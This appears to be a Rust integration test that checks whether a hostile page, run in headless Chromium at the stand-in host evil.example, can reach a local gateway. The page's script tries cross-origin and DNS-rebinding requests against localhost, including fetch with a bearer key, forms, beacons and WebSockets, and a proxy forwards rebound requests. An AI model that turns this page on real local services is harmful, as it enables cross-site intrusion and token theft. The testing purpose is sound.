//! A web page in a real Chromium, of another origin and by DNS rebinding, with and without the key: it
//! reads nothing, and nothing of it reaches the upstream.

use std::process::Stdio;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt, copy_bidirectional};
use tokio::net::{TcpListener, TcpStream};
use tokio::process::Command;
use tokio::sync::mpsc;

use crate::{Bench, Open};

/// Everything that a page can send, at an address of the gateway's and at its own, which by then leads to
/// the gateway.
const PAGE: &str = r#"<!doctype html><title>evil</title><body><script>
const key = 'KEY', own = location.origin, results = {};
const soon = (work) => Promise.race([work, new Promise((_, no) => setTimeout(() => no('late'), 3000))]);
async function attempt(name, work) {
  try { results[name] = String(await soon(work())); } catch (error) { results[name] = 'failed: ' + error; }
}
const element = (tag, set, events = ['load', 'error']) => new Promise((done) => {
  const made = document.createElement(tag);
  for (const event of events) made.addEventListener(event, () => done(event));
  Object.assign(made, set);
  document.body.append(made);
});
const form = (action, method) => new Promise((done) => {
  const frame = document.createElement('iframe');
  frame.name = 'frame' + Math.random();
  const made = document.createElement('form');
  Object.assign(made, { action, method, target: frame.name, enctype: 'text/plain' });
  const field = document.createElement('input');
  Object.assign(field, { name: 'a', value: 'b' });
  made.append(field);
  document.body.append(frame, made);
  frame.addEventListener('load', () => done('load'));
  made.submit();
});
const read = async (url, options) => {
  const answer = await fetch(url, options);
  return answer.status + ' ' + (await answer.text()).slice(0, 300);
};
(async () => {
  const auth = { Authorization: 'Bearer ' + key };
  for (const base of ['http://127.0.0.1:PORT', 'http://localhost:PORT', 'http://[::1]:PORT', own]) {
    const at = base + '/fulfillment/page';
    await attempt(base + ' fetch', () => read(at));
    await attempt(base + ' fetch with the key', () => read(at, { headers: auth }));
    await attempt(base + ' greeting with the key', () => read(base + '/', { headers: auth }));
    await attempt(base + ' post', () => read(at, { method: 'POST', body: 'x' }));
    await attempt(base + ' put with the key', () => read(at, { method: 'PUT', body: 'x', headers: auth }));
    await attempt(base + ' no-cors', () => read(at, { mode: 'no-cors' }));
    await attempt(base + ' no-cors post', () => read(at, { mode: 'no-cors', method: 'POST', body: 'x', credentials: 'include' }));
    await attempt(base + ' beacon', async () => navigator.sendBeacon(at, 'x'));
    await attempt(base + ' form get', () => form(at, 'get'));
    await attempt(base + ' form post', () => form(at, 'post'));
    await attempt(base + ' image', () => element('img', { src: at }));
    await attempt(base + ' script', () => element('script', { src: at }));
    await attempt(base + ' frame', () => element('iframe', { src: at }, ['load']));
    await attempt(base + ' style', () => element('link', { rel: 'stylesheet', href: at }));
    await attempt(base + ' events', () => new Promise((done) => {
      const source = new EventSource(at);
      source.onerror = () => { source.close(); done('error'); };
      source.onopen = () => done('open');
    }));
    await attempt(base + ' socket', () => new Promise((done) => {
      const socket = new WebSocket(at.replace('http', 'ws'));
      socket.onerror = () => done('error');
      socket.onopen = () => done('open');
    }));
  }
  await fetch('/done', { method: 'POST', body: JSON.stringify(results) });
})();
</script>"#;

/// The page's own server. Whatever is asked of it beside the page goes to the gateway just as it came: so
/// it is when the page's name leads to this computer after its first look-up.
async fn evil(listener: TcpListener, port: u16, page: String, done: mpsc::UnboundedSender<String>) {
    while let Ok((stream, _)) = listener.accept().await {
        let (page, done) = (page.clone(), done.clone());
        tokio::spawn(async move {
            let _ = answer(stream, port, &page, &done).await;
        });
    }
}

async fn answer(
    mut stream: TcpStream,
    port: u16,
    page: &str,
    done: &mpsc::UnboundedSender<String>,
) -> std::io::Result<()> {
    let mut head = vec![0; 64 * 1024];
    let mut n = stream.read(&mut head).await?;
    if head[..n].starts_with(b"POST /done") {
        while !head[..n].ends_with(b"}") {
            n += stream.read(&mut head[n..]).await?;
        }
        let text = String::from_utf8_lossy(&head[..n]).into_owned();
        let _ = done.send(text.split_once("\r\n\r\n").unwrap().1.to_owned());
        return stream.write_all(b"HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n").await;
    }
    if head[..n].starts_with(b"GET /page") {
        let length = page.len();
        let head = format!(
            "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\nContent-Length: {length}\r\n\r\n"
        );
        return stream.write_all(format!("{head}{page}").as_bytes()).await;
    }
    let mut gateway = TcpStream::connect(("127.0.0.1", port)).await?;
    gateway.write_all(&head[..n]).await?;
    copy_bidirectional(&mut stream, &mut gateway).await.map(drop)
}

async fn visit(open: &Open) -> serde_json::Map<String, serde_json::Value> {
    let listener = TcpListener::bind(("127.0.0.2", open.port)).await.unwrap();
    let (sender, mut done) = mpsc::unbounded_channel();
    let page = PAGE.replace("PORT", &open.port.to_string()).replace("KEY", open.key.expose());
    let server = tokio::spawn(evil(listener, open.port, page, sender));
    let folder = tempfile::tempdir().unwrap();
    let mut chromium = Command::new("chromium");
    chromium.args(["--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run", "--no-proxy-server"]);
    chromium.args(["--disable-dev-shm-usage", "--disable-background-networking"]);
    chromium.arg(format!("--user-data-dir={}", folder.path().display()));
    chromium.arg("--host-resolver-rules=MAP evil.example 127.0.0.2");
    chromium.arg("--remote-debugging-port=0");
    chromium.arg(format!("http://evil.example:{}/page", open.port));
    chromium.stdout(Stdio::null()).stderr(Stdio::null()).kill_on_drop(true);
    let mut browser = chromium.spawn().expect("chromium is installed");
    let text = tokio::time::timeout(Duration::from_secs(120), done.recv()).await;
    let text = text.expect("the page came to its end").unwrap();
    browser.kill().await.unwrap();
    server.abort();
    serde_json::from_str(&text).unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_web_page_gets_nowhere() {
    let bench = Bench::new().await;
    let open = bench.sandbox().await;
    let results = visit(&open).await;
    assert_eq!(results.len(), 4 * 16, "each was tried: {results:?}");
    assert_eq!(bench.upstream.count(), 0, "{results:#?}");
    assert_eq!(bench.stand_in.mints(), 0, "no token was touched");
    for (what, result) in &results {
        let result = result.as_str().unwrap();
        assert!(
            !result.contains("checkout") && !result.starts_with("200") && result != "open",
            "{what}: {result}"
        );
    }
    let arrived = bench.lines(30).await.len();
    assert!(arrived >= 30, "the control: {arrived} requests came to the gateway: {results:#?}");
    println!("{arrived} requests came to the gateway");
    let by_rebinding = results.iter().filter(|(what, result)| {
        what.starts_with("http://evil.example") && result.as_str().unwrap().contains("Host is not")
    });
    assert!(by_rebinding.count() >= 3, "the control: the name led to the gateway: {results:#?}");
    assert_eq!(open.get("/fulfillment/a").await.status(), 200);
    assert_eq!(bench.upstream.count(), 1, "the control: it counts");
}
